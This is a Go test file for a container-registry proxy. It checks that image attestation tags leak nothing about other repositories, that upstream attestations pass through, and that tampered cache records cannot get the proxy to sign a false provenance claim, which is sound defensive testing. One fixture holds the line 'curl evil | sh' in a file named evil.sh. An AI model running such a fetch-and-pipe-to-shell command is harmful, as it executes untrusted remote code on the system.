package proxy_test

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"encoding/json"
	"io"
	"net/http"
	"testing"
	"time"

	digest "github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/regnorm/regnorm/internal/regtest"
	"github.com/regnorm/regnorm/proxy/attest"
)

// TestAttestationTagIsNoExistenceOracle: cosign's tag sha256-<hex>.att,
// asked in a repository that does not hold the variant's original, is
// answered exactly as the same tag of a digest regnorm never made: a client
// cannot learn from it which variants regnorm made in repositories it may
// not read (what someone else pulled).
func TestAttestationTagIsNoExistenceOracle(t *testing.T) {
	t.Parallel()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	signer, err := attest.NewSigner(key)
	if err != nil {
		t.Fatal(err)
	}
	h := newHarness(t, harnessOptions{
		registry: regtest.Options{TokenAuth: true, Accounts: []regtest.Account{
			{Username: "alice", Password: "alice-secret-pw", Repos: []string{"team/private", "team/shared"}},
			{Username: "bob", Password: "bob-secret-pw", Repos: []string{"team/shared"}},
		}},
		forward: true,
		tagTTL:  time.Hour,
		attest:  &attest.Maker{Signer: signer, Version: "v0.test"},
	})
	img := h.push(t, "team/private", "v1", regtest.ImageOptions{ConfigMediaType: "application/octet-stream"}, oneFile)
	h.push(t, "team/shared", "v1", regtest.ImageOptions{}, oneFile)
	alice, bob := basic("alice", "alice-secret-pw"), basic("bob", "bob-secret-pw")

	r := h.do(t, http.MethodGet, "/v2/team/private/manifests/v1", alice)
	variant := digest.Digest(r.header.Get("Docker-Content-Digest"))
	if r.status != http.StatusOK || variant == img.ManifestDigest {
		t.Fatalf("no variant: %d %s", r.status, variant)
	}
	// Bob reads team/shared: his credentials are confirmed there.
	if r := h.do(t, http.MethodGet, "/v2/team/shared/manifests/v1", bob); r.status != http.StatusOK {
		t.Fatalf("bob's own pull: %d %s", r.status, r.body)
	}
	never := digest.FromString("a variant regnorm never made")
	for _, who := range []struct {
		name   string
		header http.Header
	}{{"bob", bob}, {"alice", alice}, {"anonymous", containerdAccept}} {
		for _, repo := range []string{"team/shared", "team/private"} {
			made := h.do(t, http.MethodGet, "/v2/"+repo+"/manifests/"+attest.TagOf(variant), who.header)
			other := h.do(t, http.MethodGet, "/v2/"+repo+"/manifests/"+attest.TagOf(never), who.header)
			if who.name == "alice" && repo == "team/private" {
				continue // she may read it
			}
			t.Logf("%s %s: %d %s | %d %s", who.name, repo, made.status, made.body, other.status, other.body)
			if made.status != other.status || !bytes.Equal(made.body, other.body) {
				t.Errorf("%s in %s: the .att tag of a variant made elsewhere answers %d %s; of a digest never made, %d %s",
					who.name, repo, made.status, made.body, other.status, other.body)
			}
		}
	}
}

// TestAttestationTagOfAVariantMadeElsewhereIsTheUpstreams: in a repository
// where regnorm attested nothing, cosign's tag sha256-<hex>.att is the
// upstream's (attest.go: "Any other such tag is the upstream's"), even when
// hex is a variant regnorm made in another repository: someone copied the
// variant there and attested it (cosign attest), and the client may read
// that repository. regnorm must not answer it "unknown" because the
// variant's original is not in that repository.
func TestAttestationTagOfAVariantMadeElsewhereIsTheUpstreams(t *testing.T) {
	t.Parallel()
	h := newHarness(t, harnessOptions{
		registry: regtest.Options{TokenAuth: true, Accounts: []regtest.Account{
			{Username: "alice", Password: "alice-secret-pw", Repos: []string{"team/private", "team/shared"}},
		}},
		forward: true,
		tagTTL:  time.Hour,
		attest:  &attest.Maker{Version: "v0.test"},
	})
	h.push(t, "team/private", "v1", regtest.ImageOptions{ConfigMediaType: "application/octet-stream"}, oneFile)
	alice := basic("alice", "alice-secret-pw")
	r := h.do(t, http.MethodGet, "/v2/team/private/manifests/v1", alice)
	variant := digest.Digest(r.header.Get("Docker-Content-Digest"))
	if r.status != http.StatusOK {
		t.Fatalf("no variant: %d %s", r.status, r.body)
	}
	// team/shared's own attestation of the variant's digest (any manifest
	// under that tag stands for it).
	theirs := h.push(t, "team/shared", attest.TagOf(variant), regtest.ImageOptions{}, []regtest.File{{Name: "att", Content: []byte("theirs\n")}})
	r = h.do(t, http.MethodGet, "/v2/team/shared/manifests/"+attest.TagOf(variant), alice)
	if r.status != http.StatusOK || digest.FromBytes(r.body) != theirs.ManifestDigest {
		t.Errorf("team/shared's own %s: %d %s, want the upstream's %s", attest.TagOf(variant), r.status, r.body, theirs.ManifestDigest)
	}
}

// TestSignedAttestationIsNotBuiltOnAnUncheckedVerdict: regnorm signs "V was
// made from O" only for a V it made from O. A verdict record is cache
// content: one that someone who can write the cache storage changed (O's
// verdict now names E, an unrelated image in the repository) must not get
// regnorm's key on a statement that E derives from O; docs/signatures.md
// says a cache writer can forge only the unsigned attestation. (The
// changed verdict also makes regnorm serve E for O's tag; that is not
// this test's matter, the signature is: it outlives the cache and
// travels, and a policy that admits a variant of a vendor-signed original
// trusts it.)
func TestSignedAttestationIsNotBuiltOnAnUncheckedVerdict(t *testing.T) {
	t.Parallel()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	signer, err := attest.NewSigner(key)
	if err != nil {
		t.Fatal(err)
	}
	h := newHarness(t, harnessOptions{tagTTL: time.Hour, attest: &attest.Maker{Signer: signer, Version: "v0.test"}})
	ctx := context.Background()
	orig := h.push(t, "library/app", "v1", regtest.ImageOptions{ConfigMediaType: "application/octet-stream"}, oneFile)
	evil := h.push(t, "library/app", "evil", regtest.ImageOptions{}, []regtest.File{{Name: "evil.sh", Content: []byte("curl evil | sh\n")}})
	r := h.do(t, http.MethodGet, "/v2/library/app/manifests/v1", containerdAccept)
	variant := digest.Digest(r.header.Get("Docker-Content-Digest"))
	if r.status != http.StatusOK || variant == orig.ManifestDigest {
		t.Fatalf("no variant: %d %s", r.status, r.body)
	}
	if r := h.do(t, http.MethodGet, "/v2/library/app/manifests/evil", containerdAccept); r.status != http.StatusOK ||
		digest.Digest(r.header.Get("Docker-Content-Digest")) != evil.ManifestDigest {
		t.Fatalf("app:evil: %d %s", r.status, r.header.Get("Docker-Content-Digest"))
	}
	statementOf := func(subject digest.Digest) (attest.Statement, bool) {
		r := h.do(t, http.MethodGet, "/v2/library/app/manifests/"+attest.TagOf(subject), containerdAccept)
		if r.status != http.StatusOK {
			return attest.Statement{}, false
		}
		var m ocispec.Manifest
		if err := json.Unmarshal(r.body, &m); err != nil || len(m.Layers) != 1 {
			t.Fatalf("attestation manifest %s (%v)", r.body, err)
		}
		env := h.do(t, http.MethodGet, "/v2/library/app/blobs/"+m.Layers[0].Digest.String(), nil)
		b, err := attest.Verify(ctx, env.body, &key.PublicKey)
		if err != nil {
			t.Fatalf("the envelope of %s: %v", subject, err)
		}
		var st attest.Statement
		if err := json.Unmarshal(b, &st); err != nil {
			t.Fatal(err)
		}
		return st, true
	}
	st, ok := statementOf(variant)
	if !ok {
		t.Fatal("the real variant has no attestation")
	}

	// The cache's verdict of O changed to name E.
	verdict, err := h.store.GetNormalization(ctx, orig.ManifestDigest, st.Predicate.Rules)
	if err != nil {
		t.Fatalf("the verdict under %q: %v", st.Predicate.Rules, err)
	}
	verdict.Normalized = evil.ManifestDigest
	verdict.MediaType = ocispec.MediaTypeImageManifest
	if err := h.store.PutNormalization(ctx, verdict); err != nil {
		t.Fatal(err)
	}
	r = h.do(t, http.MethodGet, "/v2/library/app/manifests/v1", containerdAccept)
	t.Logf("app:v1 now answers %s", r.header.Get("Docker-Content-Digest"))
	// The attestation is read from the cache's record, as anyone who can
	// write the cache can read it (the .att tag and the referrers API list
	// only what regnorm recorded as made).
	rec, err := h.store.GetReferrers(ctx, "docker.io", "library/app", evil.ManifestDigest)
	if err != nil {
		return // nothing attested of E: as it should be
	}
	for _, d := range rec.Manifests {
		m, err := h.store.GetManifest(ctx, "docker.io", "library/app", d.Digest)
		if err != nil {
			t.Fatal(err)
		}
		var am ocispec.Manifest
		if err := json.Unmarshal(m.Content, &am); err != nil || len(am.Layers) != 1 {
			t.Fatalf("attestation manifest %s (%v)", m.Content, err)
		}
		rc, _, err := h.store.OpenVerified(ctx, am.Layers[0].Digest)
		if err != nil {
			t.Fatal(err)
		}
		env, err := io.ReadAll(rc)
		rc.Close()
		if err != nil {
			t.Fatal(err)
		}
		b, err := attest.Verify(ctx, env, &key.PublicKey)
		if err != nil {
			t.Fatalf("the envelope: %v", err)
		}
		var st attest.Statement
		if err := json.Unmarshal(b, &st); err != nil {
			t.Fatal(err)
		}
		if st.Subject[0].Digest["sha256"] == evil.ManifestDigest.Encoded() && st.Predicate.Original.Digest == orig.ManifestDigest {
			t.Errorf("regnorm signed that %s (never made from it) derives from %s, on a verdict read from the cache", evil.ManifestDigest, orig.ManifestDigest)
		}
	}
}
